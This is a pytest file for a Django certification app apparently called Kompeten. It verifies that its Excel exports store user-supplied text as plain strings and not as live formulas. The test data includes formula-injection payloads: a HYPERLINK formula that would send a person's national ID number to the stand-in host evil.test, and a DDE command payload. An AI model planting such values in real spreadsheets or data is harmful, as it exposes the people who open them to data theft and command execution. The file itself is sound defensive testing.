"""Every workbook Kompeten writes holds each text from a person as a string cell, unchanged: never a formula."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kompeten.accounts.services import applicant_profile_update
from kompeten.assessments.models import Question
from kompeten.certificates import services
from kompeten.core import workbooks
from tests.certificates.test_decisions import signed

HYPERLINK = '=HYPERLINK("http://evil.test/?nik="&B2,"Rina")'
HOSTILE = {
    "place_of_birth": "@SUM(A1:A9)",
    "address": "\r=1+2\nJl. Merdeka 1",
    "phone": "+62 812 3456 7890",
    "employer": "-2+3",
    "job_title": "\t=cmd|' /C calc'!A0",
}


def cells(content: bytes):
    """Every cell of the first sheet, and the raw XML of every sheet (which must hold no <f> element)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<(\w+:)?f[ >/]", xml) for xml in sheets)
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_written_as_text(content: bytes, values) -> None:
    written = cells(content)
    assert all(cell.data_type != "f" for cell in written)
    texts = {cell.value for cell in written if cell.data_type == "s"}
    for value in values:
        assert value in texts, value


@pytest.fixture
def hostile_participant(cast, participant):
    asesi = participant.case.asesi
    applicant_profile_update(actor=None, user=asesi, full_name=HYPERLINK, nik="3201010101010001", **HOSTILE)
    signed(participant)
    services.decision_record(actor=cast.komite, case=participant.case, competent=True)
    services.certificate_issue(actor=cast.admin_lsp, case=participant.case)
    return participant


def test_the_blanko_request_writes_every_hostile_value_as_the_same_text(client, cast, hostile_participant):
    client.force_login(cast.admin_lsp)
    response = client.get(
        reverse("certificates:blanko_export", kwargs={"pk": hostile_participant.session.pk})
    )
    assert response.status_code == 200
    assert_written_as_text(response.content, [HYPERLINK, *HOSTILE.values()])


def test_the_certificate_register_writes_a_formula_like_name_as_text(client, cast, hostile_participant):
    client.force_login(cast.manajer)
    response = client.get(reverse("certificates:register_export"))
    assert_written_as_text(response.content, [HYPERLINK])


def test_the_question_bank_export_writes_formula_like_questions_as_text(client, cast, scheme):
    unit = scheme.scheme_units.first().unit
    Question.objects.create(unit=unit, text=HYPERLINK, options=["=1+1", "+62"], answer=0)
    client.force_login(cast.manajer)
    response = client.get(
        reverse("assessments:question_bank", kwargs={"scheme_pk": scheme.pk}), {"format": "xlsx"}
    )
    assert_written_as_text(response.content, [HYPERLINK, "=1+1", "+62"])


def test_the_legacy_import_template_holds_no_formula(client, cast):
    client.force_login(cast.admin_lsp)
    cells(client.get(reverse("certificates:legacy_template")).content)


@pytest.mark.parametrize("value", [HYPERLINK, "+6281234", "-1", "@A1", "\t=1", "\r=1", "a\r\nb", "=", " =1"])
def test_a_row_keeps_each_text_exactly_as_given(value):
    book = Workbook()
    workbooks.append_row(book.active, ["nama"])
    workbooks.append_row(book.active, [value, 7])
    buffer = io.BytesIO()
    book.save(buffer)
    header, row = [list(r) for r in load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()]
    assert (row[0].value, row[0].data_type) == (value, "s")
    assert (row[1].value, row[1].data_type) == (7, "n")
    assert header[0].value == "nama"


def test_a_control_character_xml_cannot_hold_does_not_break_the_export():
    book = Workbook()
    workbooks.append_row(book.active, ["=A\x01B"])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.value, cell.data_type) == ("=A\ufffdB", "s")
